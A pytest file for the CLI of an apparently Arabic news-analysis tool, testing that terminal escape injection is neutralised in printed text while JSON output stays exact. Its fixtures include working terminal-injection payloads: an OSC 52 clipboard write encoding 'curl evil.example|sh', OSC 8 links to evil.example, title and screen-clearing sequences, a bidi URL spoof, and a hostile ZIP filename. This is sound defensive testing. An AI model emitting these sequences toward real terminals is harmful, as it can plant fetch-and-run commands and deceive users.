"""Terminal escape injection: every human-readable print of article text, titles, URLs and
sources is inert (no ESC, no C1 control, no bidi override), also when piped; ``--json``
output stays exact."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from marsad.cli import app
from marsad.cli.console import display, markup, terminal_safe
from marsad.document import Document, Event

# Each a real attack: OSC 52 clipboard write, clear screen, OSC 8 link (ESC \ terminated),
# window title, 8-bit CSI, an override that makes a URL read as another site, a rich markup link.
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
CLEAR = "\x1b[2J\x1b[H"
LINK = "\x1b]8;;http://evil.example/\x1b\\اضغط هنا\x1b]8;;\x1b\\"
TITLE = "\x1b]0;pwned\x07"
CSI8 = "\x9b31m"
OVERRIDE = "\u202eelpmaxe.live\u202c"
RICH_LINK = "[link=http://evil.example/]رابط[/link]"
HOSTILE_TEXT = f"قصفت الطائرات {CLIPBOARD}مدينة حلب {CLEAR} صباح اليوم {LINK} وقال {CSI8} مسؤول {OVERRIDE} {RICH_LINK}\nسطر ثان"
HOSTILE_TITLE = f"قصف حلب {TITLE}{CLEAR}{CSI8} {OVERRIDE} {RICH_LINK}"
HOSTILE_URL = f"http://news.example/{CLEAR}{OVERRIDE}"
# What must never reach a terminal from the data.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _assert_inert(output: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in UNSAFE.findall(output)})
    assert found == [], f"unsafe characters printed: {found}"


def test_terminal_safe_shows_controls_visibly_and_is_idempotent() -> None:
    assert terminal_safe(CLIPBOARD) == "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07"
    assert terminal_safe(CSI8 + OVERRIDE) == "\\x9b31m\\u202eelpmaxe.live\\u202c"
    assert terminal_safe("سطر\nو\tسطر\r") == "سطر\nو\tسطر\\x0d"
    assert terminal_safe("سطر\nو\tسطر", one_line=True) == "سطر\\x0aو\\x09سطر"
    assert terminal_safe("\udfff\x7f") == "\\udfff\\x7f"
    text = HOSTILE_TEXT + HOSTILE_TITLE
    assert terminal_safe(terminal_safe(text)) == terminal_safe(text)
    assert not UNSAFE.search(terminal_safe(text))
    # Arabic, its marks, ZWNJ/ZWJ and the bidi *marks* are text, not controls: untouched.
    arabic = "قالَ الوزيرُ: «اللاجئون» ‌‍\u200f\u061c (٢٠١٩)"
    assert terminal_safe(arabic, one_line=True) == arabic


def test_markup_escapes_rich_tags() -> None:
    assert markup(RICH_LINK) == "\\[link=http://evil.example/]رابط\\[/link]"
    assert markup("a\nb") == "a\\x0ab"


def test_visual_order_sanitises_before_reordering(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MARSAD_BIDI", "visual")
    shown = display(HOSTILE_TEXT)
    assert not UNSAFE.search(shown) and "\\x1b" in shown


def _jsonl(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.jsonl"
    record = {"text": HOSTILE_TEXT, "title": HOSTILE_TITLE, "url": HOSTILE_URL, "source": f"وكالة{CLEAR}"}
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    return path


def _invoke(*args: str) -> tuple[int, str, str]:
    # Wide enough that no table cell is cut, whatever terminal runs the tests: the CLI's consoles
    # read COLUMNS when they are created (at import), so their width is set here, not through env.
    from marsad.cli import console

    consoles = (console.stdout, console.stderr)
    fixed = [c._width for c in consoles]  # None: the console follows the terminal; keep it so
    for c in consoles:
        c.width = 1000
    try:
        result = CliRunner().invoke(app, list(args), env={"COLUMNS": "1000"})
    finally:
        for c, width in zip(consoles, fixed, strict=True):
            c._width = width
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def test_analyze_view_is_inert_and_json_is_exact(tmp_path: Path) -> None:
    source = _jsonl(tmp_path)
    code, out, err = _invoke("analyze", "--stages", "boilerplate", str(source))
    assert code == 0
    _assert_inert(out + err)
    assert "\\x1b]52;c;" in out and "\\x9b31m" in out and "\\u202e" in out  # shown, visibly
    assert "مدينة حلب" in out and "سطر ثان" in out
    code, out, err = _invoke("analyze", "--json", "--stages", "boilerplate", str(source))
    [doc] = [json.loads(line) for line in out.splitlines()]
    assert (doc["text"], doc["title"], doc["url"], doc["source"]) == (
        HOSTILE_TEXT, HOSTILE_TITLE, HOSTILE_URL, f"وكالة{CLEAR}")


def test_analyze_view_on_a_real_terminal_emits_only_its_own_styles(monkeypatch: pytest.MonkeyPatch) -> None:
    """With colours on, the only escape sequences are rich's SGR styles (ESC [ ... m)."""
    import marsad.cli.render as render
    from marsad.pipeline import Pipeline

    doc = Pipeline.build(["boilerplate"])(Document(HOSTILE_TEXT, title=HOSTILE_TITLE, url=HOSTILE_URL, source=CLEAR))
    start = doc.text.index("حلب")
    doc.events = [_event(doc.text, start)]
    buffer = io.StringIO()
    monkeypatch.setattr(render, "stdout", Console(file=buffer, force_terminal=True, color_system="truecolor", width=120))
    render.render_document(doc)
    shown = buffer.getvalue()
    styles_removed = re.sub(r"\x1b\[[0-9;]*m", "", shown)
    _assert_inert(styles_removed)
    assert "\x1b]" not in shown and "\x1b[2J" not in shown and "\x9b" not in shown
    assert "\\x1b]52;c;" in styles_removed and "according to" in styles_removed


def _event(text: str, start: int) -> Event:
    hostile = text.index(CLIPBOARD)
    return Event(
        type="ASSAULT", mode=None, trigger={"start": start, "end": start + 3, "text": text[start:start + 3]},
        actor={"start": hostile, "end": hostile + len(CLIPBOARD), "text": CLIPBOARD, "canonical": CSI8},
        target=None, place={"text": f"حلب{CLEAR}", "name": f"حلب{CLEAR}"}, date="2019-12-12", status="claimed",
        source={"text": OVERRIDE}, chain=[f"مصدر{TITLE}"], figures=[{"kind": "killed", "value": 3, "source": LINK}],
    )


def _store_with_hostile_document(tmp_path: Path) -> str:
    from marsad.store import open_store

    db = str(tmp_path / "h.db")
    doc = Document(HOSTILE_TEXT, title=HOSTILE_TITLE, url=HOSTILE_URL, source=f"وكالة{CLEAR}")
    doc.events = [_event(doc.text, doc.text.index("قصفت"))]
    with open_store(db) as store:
        store.add_document(doc)
    return db


def test_search_is_inert_and_json_is_exact(tmp_path: Path) -> None:
    db = _store_with_hostile_document(tmp_path)
    code, out, err = _invoke("search", "حلب", "--db", db)
    assert code == 0
    _assert_inert(out + err)
    assert "\\x1b]0;pwned\\x07" in out and "http://news.example/\\x1b[2J" in out and "\\x1b]52;c;" in out
    assert RICH_LINK in out  # rich markup in a title is shown, not obeyed
    code, out, err = _invoke("search", "حلب", "--db", db, "--json")
    [item] = [json.loads(line) for line in out.splitlines()]
    assert (item["title"], item["url"], item["source"]) == (HOSTILE_TITLE, HOSTILE_URL, f"وكالة{CLEAR}")
    assert CLIPBOARD in item["snippet"]


def test_search_highlights_survive_escapes() -> None:
    from marsad.cli.cmd_search import _snippet

    snippet = f"قبل {CLEAR} حلب بعد"
    start = snippet.index("حلب")
    text = _snippet(snippet, [[start, start + 3]])
    assert text.plain == "قبل \\x1b[2J\\x1b[H حلب بعد"
    [span] = text.spans
    assert text.plain[span.start:span.end] == "حلب" and span.style == "bold reverse"


def test_events_table_is_inert_and_json_is_exact(tmp_path: Path) -> None:
    db = _store_with_hostile_document(tmp_path)
    code, out, err = _invoke("events", "--db", db)
    assert code == 0
    _assert_inert(out + err)
    assert any("\\x9b31m" in line.split() for line in out.splitlines()) and "حلب\\x1b[2J\\x1b[H" in out and "\\u202eelpmaxe.live\\u202c" in out
    code, out, err = _invoke("events", "--db", db, "--format", "json")
    events = json.loads(out) if out.lstrip().startswith("[") else [json.loads(line) for line in out.splitlines()]
    assert (events[0]["actor1"], events[0]["location"]) == (CSI8, f"حلب{CLEAR}")


def test_failure_lines_are_inert(tmp_path: Path) -> None:
    # A ZIP member's name is the attacker's: it is quoted in the failure line.
    import zipfile

    archive = tmp_path / "a.zip"
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr(f"x{CLEAR}{TITLE}.bin", b"data")
        out.writestr("ok.jsonl", json.dumps({"text": "خبر"}) + "\n")
    code, out, err = _invoke("analyze", "--json", "--stages", "boilerplate", str(archive))
    assert code == 1
    _assert_inert(err)
    assert "x\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07.bin" in err
    code, out, err = _invoke("ingest", "--db", str(tmp_path / "i.db"), "--stages", "boilerplate", str(archive))
    _assert_inert(out + err)
    assert "\\x1b[2J" in err
